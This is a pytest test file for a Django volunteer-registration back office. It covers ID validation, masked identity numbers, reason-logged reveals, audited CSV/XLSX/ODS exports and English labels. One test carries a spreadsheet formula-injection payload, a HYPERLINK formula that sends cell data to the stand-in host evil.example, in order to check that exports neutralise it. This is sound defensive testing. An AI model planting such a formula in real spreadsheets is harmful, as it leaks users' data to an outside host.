"""Registering volunteers over HTTP, the masked identity number everywhere, revealing it with a recorded
reason, exports (audited, formula-safe) and the English back-office."""
from __future__ import annotations

import io
import re

import openpyxl
import pytest
import tablib

from operations.identity import IdType
from operations.models import AuditAction, AuditEvent, Membership, Volunteer
from tests.conftest import CJK_RE, fresh
from tests.factories import VolunteerFactory, unique_national_id

from .rollup_support import rollup_stays_exact  # noqa: F401 (autouse: the kept figures checked after each test)


def form_data(org, **overrides):
    data = {
        "team": org.team_a.pk,
        "id_type": IdType.NATIONAL_ID,
        "id_number": unique_national_id(sex="F"),
        "name": "新進志工王小美",
        "english_name": "Wang Hsiao-mei",
        "sex": "F",
        "birth_date": "1995-08-08",
        "phone": "0933123456",
        "email": "hsiaomei@example.org",
        "city": "taipei",
        "district": "信義區",
        "address": "松仁路100號",
        "languages": [org.mandarin.pk, org.english.pk],
        "emergency_contact_name": "王大明",
        "emergency_contact_phone": "0911000111",
        "emergency_contact_relation": "父親",
    }
    data.update(overrides)
    return data


def error_of_field(response, field: str) -> str:
    errors = response.context["form"].errors.get(field)
    assert errors, f"no error on {field}: {response.context['form'].errors}"
    return " ".join(errors)


def counts():
    return Volunteer.objects.count(), Membership.objects.count(), AuditEvent.objects.count()


# --- Registering -----------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("overrides", "english"),
    [
        ({"id_number": "A123456788"}, "The check digit does not match"),
        ({"id_number": "A12345678"}, "A national ID is one letter, then 1 or 2, then eight digits"),
        ({"id_number": "A800000014"}, "This number looks like a Resident certificate (new format), not a National ID"),
        ({"id_type": IdType.ARC_OLD, "id_number": "AB12345678"}, "The check digit does not match"),
        ({"id_number": ""}, "This field is required."),
    ],
)
def test_invalid_id_shows_a_message_and_saves_nothing(org, login, overrides, english):
    client = login(org.admin_a)
    before = counts()
    response = client.post("/backoffice/volunteers/new/", form_data(org, **overrides))
    assert response.status_code == 200
    chinese = error_of_field(response, "id_number")
    assert CJK_RE.search(chinese), chinese
    assert chinese in response.content.decode()
    assert english not in response.content.decode()
    assert counts() == before

    response = client.post("/en/backoffice/volunteers/new/", form_data(org, **overrides))
    assert response.status_code == 200
    assert english in error_of_field(response, "id_number")
    assert counts() == before


def test_duplicate_id_is_refused_without_saying_who_holds_it(org, login):
    client = login(org.admin_a)
    before = counts()
    typed = " " + org.vol_b.id_number.lower()[:5] + " " + org.vol_b.id_number[5:] + " "
    outside = client.post("/en/backoffice/volunteers/new/", form_data(org, id_number=typed))
    inside = client.post("/en/backoffice/volunteers/new/", form_data(org, id_number=org.vol_a.id_number))
    assert outside.status_code == inside.status_code == 200
    message = error_of_field(outside, "id_number")
    assert message == "A volunteer with this identity document is already registered."
    # the same words whether the holder is in the user's scope or not
    assert error_of_field(inside, "id_number") == message
    page = outside.content.decode()
    for secret in (org.vol_b.name, org.vol_b.english_name, org.team_b.name, org.unit_b.name, org.vol_b.phone):
        assert secret not in page
    assert counts() == before


def test_valid_registration_is_saved_and_redirects_to_the_volunteer(org, login):
    client = login(org.admin_a)
    number = unique_national_id(sex="F")
    typed = f" {number[0].lower()} {number[1:]}"
    response = client.post("/backoffice/volunteers/new/", form_data(org, id_number=typed, team=org.sub_a.pk))
    volunteer = Volunteer.objects.get(name="新進志工王小美")
    assert response.status_code == 302
    assert response["Location"] == f"/backoffice/volunteers/{volunteer.pk}/"
    assert volunteer.id_number == number
    assert set(volunteer.languages.all()) == {org.mandarin, org.english}
    membership = volunteer.memberships.get()
    assert (membership.team, membership.left_on, membership.created_by) == (org.sub_a, None, org.admin_a)
    event = AuditEvent.objects.get(action=AuditAction.CREATED, object_type="operations.volunteer",
                                   object_id=str(volunteer.pk))
    assert (event.actor, event.node) == (org.admin_a, org.sub_a)
    assert number not in str(event.changes)
    # the new volunteer is in the list of the admin, and of the sub-team leader, but not of unit B
    assert volunteer in Volunteer.objects.visible_to(fresh(org.subleader_a))
    assert volunteer not in Volunteer.objects.visible_to(fresh(org.admin_b))
    page = client.get(response["Location"]).content.decode()
    assert number not in page
    assert number[:6] + "****" in page


def test_registration_into_another_units_team_is_refused(org, login):
    before = counts()
    response = login(org.admin_a).post("/backoffice/volunteers/new/", form_data(org, team=org.team_b.pk))
    assert response.status_code == 200
    assert "team" in response.context["form"].errors
    assert counts() == before


def test_future_birth_date_is_refused(org, login):
    before = counts()
    response = login(org.admin_a).post("/en/backoffice/volunteers/new/", form_data(org, birth_date="2999-01-01"))
    assert "cannot be in the future" in error_of_field(response, "birth_date")
    assert counts() == before


def test_edit_keeps_the_number_when_left_empty_and_never_sends_it(org, login):
    client = login(org.admin_a)
    volunteer = org.vol_a
    page = client.get(f"/backoffice/volunteers/{volunteer.pk}/edit/").content.decode()
    assert volunteer.id_number not in page
    assert volunteer.masked_id in page
    data = form_data(org, id_number="", name="甲隊林美華（改）")
    data.pop("team")
    response = client.post(f"/backoffice/volunteers/{volunteer.pk}/edit/", data)
    assert response.status_code == 302
    volunteer.refresh_from_db()
    assert volunteer.name == "甲隊林美華（改）"
    assert volunteer.id_number == org.vol_a.id_number
    event = AuditEvent.objects.get(action=AuditAction.UPDATED, object_id=str(volunteer.pk))
    assert event.changes["name"] == ["甲隊林美華", "甲隊林美華（改）"]


def test_edit_to_a_duplicate_number_is_refused(org, login):
    data = form_data(org, id_number=org.vol_b.id_number)
    data.pop("team")
    response = login(org.admin_a).post(f"/en/backoffice/volunteers/{org.vol_a.pk}/edit/", data)
    assert response.status_code == 200
    assert error_of_field(response, "id_number") == "A volunteer with this identity document is already registered."
    assert Volunteer.objects.get(pk=org.vol_a.pk).id_number == org.vol_a.id_number


# --- Masked everywhere, revealed on purpose -------------------------------------------------------

def test_masked_id_on_list_detail_and_api_never_the_full_number(org, login):
    client = login(org.admin_a)
    pages = [
        client.get("/backoffice/volunteers/"),
        client.get("/en/backoffice/volunteers/"),
        client.get(f"/backoffice/volunteers/{org.vol_a.pk}/"),
        client.get(f"/backoffice/volunteers/{org.vol_sub_a.pk}/"),
        client.get("/api/operations/volunteers/"),
        client.get(f"/api/operations/volunteers/{org.vol_a.pk}/"),
        client.get(f"/backoffice/organisations/{org.team_a.pk}/"),
        client.get("/backoffice/"),
    ]
    for response in pages:
        assert response.status_code == 200
        text = response.content.decode()
        for volunteer in (org.vol_a, org.vol_sub_a):
            assert volunteer.id_number not in text
    assert org.vol_a.masked_id in pages[0].content.decode()
    assert re.fullmatch(r"[A-Z][12]\d{4}\*{4}", org.vol_a.masked_id)
    assert org.vol_a.masked_id in pages[2].content.decode()


def test_reveal_requires_a_reason(org, login):
    client = login(org.admin_a)
    for reason in ("", " ", "x"):
        response = client.post(f"/backoffice/volunteers/{org.vol_a.pk}/", {"reason": reason})
        assert response.status_code == 400
        assert org.vol_a.id_number not in response.content.decode()
        assert response.context["reveal_form"].errors
    assert not AuditEvent.objects.filter(action=AuditAction.ID_REVEALED).exists()


def test_reveal_shows_the_full_number_once_and_records_who_why_and_where(org, login):
    client = login(org.admin_a)
    response = client.post(f"/backoffice/volunteers/{org.vol_sub_a.pk}/", {"reason": "辦理志工保險加保"},
                           REMOTE_ADDR="203.0.113.9")
    assert response.status_code == 200
    assert org.vol_sub_a.id_number in response.content.decode()
    assert response["Cache-Control"] == "no-store"
    event = AuditEvent.objects.get(action=AuditAction.ID_REVEALED)
    assert event.actor == org.admin_a
    assert event.reason == "辦理志工保險加保"
    assert event.object_id == str(org.vol_sub_a.pk)
    assert event.node == org.sub_a
    assert event.ip_address == "203.0.113.9"
    assert org.vol_sub_a.id_number not in str(event.__dict__)
    # the next ordinary visit is masked again
    assert org.vol_sub_a.id_number not in client.get(f"/backoffice/volunteers/{org.vol_sub_a.pk}/").content.decode()
    # and the record is in the audit trail of the authority above, not of the unit admin
    audit = login(org.officer_wmg).get("/backoffice/audit/", {"action": "id_revealed"}).content.decode()
    assert "辦理志工保險加保" in audit


@pytest.mark.parametrize("user_key", ["leader_a", "subleader_a"])
def test_leaders_cannot_reveal(org, login, user_key):
    client = login(org.users[user_key])
    page = client.get(f"/backoffice/volunteers/{org.vol_sub_a.pk}/")
    assert page.status_code == 200
    assert not page.context["can_reveal"]
    assert 'name="reason"' not in page.content.decode()
    assert client.post(f"/backoffice/volunteers/{org.vol_sub_a.pk}/", {"reason": "保險"}).status_code == 403
    assert not AuditEvent.objects.filter(action=AuditAction.ID_REVEALED).exists()


# --- Exports --------------------------------------------------------------------------------------

def download(client, fmt, **query):
    response = client.get(f"/backoffice/volunteers/export.{fmt}", query)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def rows_of(body: bytes, fmt: str) -> list[list[str]]:
    if fmt == "csv":
        data = tablib.Dataset().load(body.decode("utf-8-sig"), format="csv")
    else:
        data = tablib.Dataset().load(io.BytesIO(body) if fmt == "xlsx" else body, format=fmt)
    return [list(data.headers), *[["" if c is None else str(c) for c in row] for row in data]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_export_is_audited_and_masks_ids(org, login, fmt):
    client = login(org.admin_a)
    response, body = download(client, fmt)
    assert response["Content-Disposition"].startswith('attachment; filename="volunteers-')
    rows = rows_of(body, fmt)
    names = {row[0] for row in rows[1:]}
    assert names == {"甲隊林美華", "甲小隊陳志明"}
    flat = " ".join(" ".join(row) for row in rows)
    assert org.vol_a.masked_id in flat
    assert org.vol_a.id_number not in flat
    event = AuditEvent.objects.get(action=AuditAction.EXPORTED)
    assert event.actor == org.admin_a
    assert event.node == org.unit_a
    assert event.changes == {"what": "volunteers", "format": fmt, "rows": 2}


def test_export_of_a_filtered_list_exports_and_records_only_those_rows(org, login):
    client = login(org.officer_wmg)
    _response, body = download(client, "csv", sex="M")
    rows = rows_of(body, "csv")
    assert {row[0] for row in rows[1:]} == {"甲小隊陳志明", "乙小隊張家豪"}
    assert AuditEvent.objects.get(action=AuditAction.EXPORTED).changes["rows"] == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_formula_injection_is_neutralised(org, login, fmt):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'
    VolunteerFactory(name=payload, english_name="+SUM(1,2)", team=org.team_a, email="-2+3@example.org")
    _response, body = download(login(org.admin_a), fmt)
    rows = rows_of(body, fmt)
    row = next(r for r in rows if payload in r[0])
    assert row[0] == "'" + payload
    assert row[1] == "'+SUM(1,2)"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@"))
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_unknown_export_format_is_refused(org, login):
    response = login(org.admin_a).get("/backoffice/volunteers/export.exe")
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORTED).exists()


# --- English ----------------------------------------------------------------------------------------

def test_english_back_office_shows_english_labels(org, login):
    client = login(org.admin_a)
    listing = client.get("/en/backoffice/volunteers/").content.decode()
    assert '<html lang="en">' in listing
    for label in ("Volunteers", "Add a volunteer", "Search", "Age band", "Current teams", "Export this list"):
        assert label in listing
    detail = client.get(f"/en/backoffice/volunteers/{org.vol_a.pk}/").content.decode()
    for label in ("Identity document number", "Team memberships", "Show the full identity number", "Female",
                  "Venue A Team"):
        assert label in detail
    form = client.get("/en/backoffice/volunteers/new/").content.decode()
    for label in ("Identity document type", "Resident certificate (new format)", "Passport", "Emergency contact"):
        assert label in form

    chinese = client.get("/backoffice/volunteers/").content.decode()
    assert '<html lang="zh-Hant-TW">' in chinese
    assert "Add a volunteer" not in chinese
    assert "Current teams" not in chinese
    assert "甲場館志工隊" in chinese


def test_lists_in_a_cell_are_separated_as_the_language_writes_them(org, login):
    """Languages and teams in a cell: 、 on the Chinese pages, a comma on the English ones (no Chinese
    punctuation on English pages)."""
    from tests.factories import LanguageFactory

    org.vol_a.languages.set([LanguageFactory(code="sep-zh", name="華語", name_en="Mandarin"),
                             LanguageFactory(code="sep-en", name="英語", name_en="English")])
    client = login(org.admin_a)
    english = client.get(f"/en/backoffice/volunteers/{org.vol_a.pk}/").content.decode()
    assert "English, Mandarin" in english or "Mandarin, English" in english
    assert "、" not in english.split("<main", 1)[1]
    chinese = client.get(f"/backoffice/volunteers/{org.vol_a.pk}/").content.decode()
    assert "英語、華語" in chinese or "華語、英語" in chinese
    listing = client.get("/en/backoffice/volunteers/").content.decode()
    assert "Mandarin, English" in listing or "English, Mandarin" in listing
